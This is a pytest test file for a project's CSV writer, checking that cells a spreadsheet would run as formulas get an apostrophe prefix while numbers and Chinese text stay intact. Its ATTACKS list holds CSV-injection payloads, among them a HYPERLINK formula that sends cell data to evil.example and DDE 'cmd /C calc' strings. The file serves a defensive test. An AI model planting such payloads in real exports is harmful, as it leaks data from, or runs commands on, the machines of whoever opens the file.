"""The one CSV writer: text that a spreadsheet would run as a formula is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geoplan import csvfile

#: Payloads from OWASP's CSV injection page and from probes of the running server.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 =1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(A1)",
]


def _read(text: str) -> list[list[str]]:
    assert text.startswith(csvfile.BOM)
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_marked_as_text(attack):
    rows = _read(csvfile.csv_text(["name"], [[attack]]))
    assert rows[1] == ["'" + attack]


def test_numbers_stay_numbers_and_missing_is_empty():
    rows = _read(csvfile.csv_text(["a", "b", "c", "d", "e"], [[-0.5, np.float64(-12.25), np.int64(-3), None, True]]))
    assert rows[1] == ["-0.5", "-12.25", "-3", "", "True"]


def test_plain_and_chinese_text_unchanged():
    rows = _read(csvfile.csv_text(["name"], [["南昌环卫驿站 1号"], ["a=b"], ["中-西"]]))
    assert [r[0] for r in rows[1:]] == ["南昌环卫驿站 1号", "a=b", "中-西"]


@given(st.lists(st.one_of(st.text(), st.floats(allow_nan=False), st.integers()), min_size=1, max_size=6))
def test_no_cell_read_back_starts_a_formula(cells):
    rows = _read(csvfile.csv_text([f"c{i}" for i in range(len(cells))], [cells]))
    for value, shown in zip(cells, rows[1], strict=True):
        if isinstance(value, str):
            assert not shown.startswith(csvfile.FORMULA_PREFIXES)
            assert shown in (value, "'" + value)
        else:
            assert float(shown) == float(value)


def test_frame_text_columns_are_neutralised_numbers_kept(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "驿站", None], "lon": [-0.5, 115.9, 116.0], "=x": [1, 2, 3]})
    path = csvfile.write_frame(frame, tmp_path / "t.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == ["name", "lon", "'=x"]
    assert back["name"].tolist() == ["'=1+1", "驿站", ""]
    assert back["lon"].tolist() == [-0.5, 115.9, 116.0]
    assert frame["name"].tolist()[0] == "=1+1", "the caller's frame is not changed"
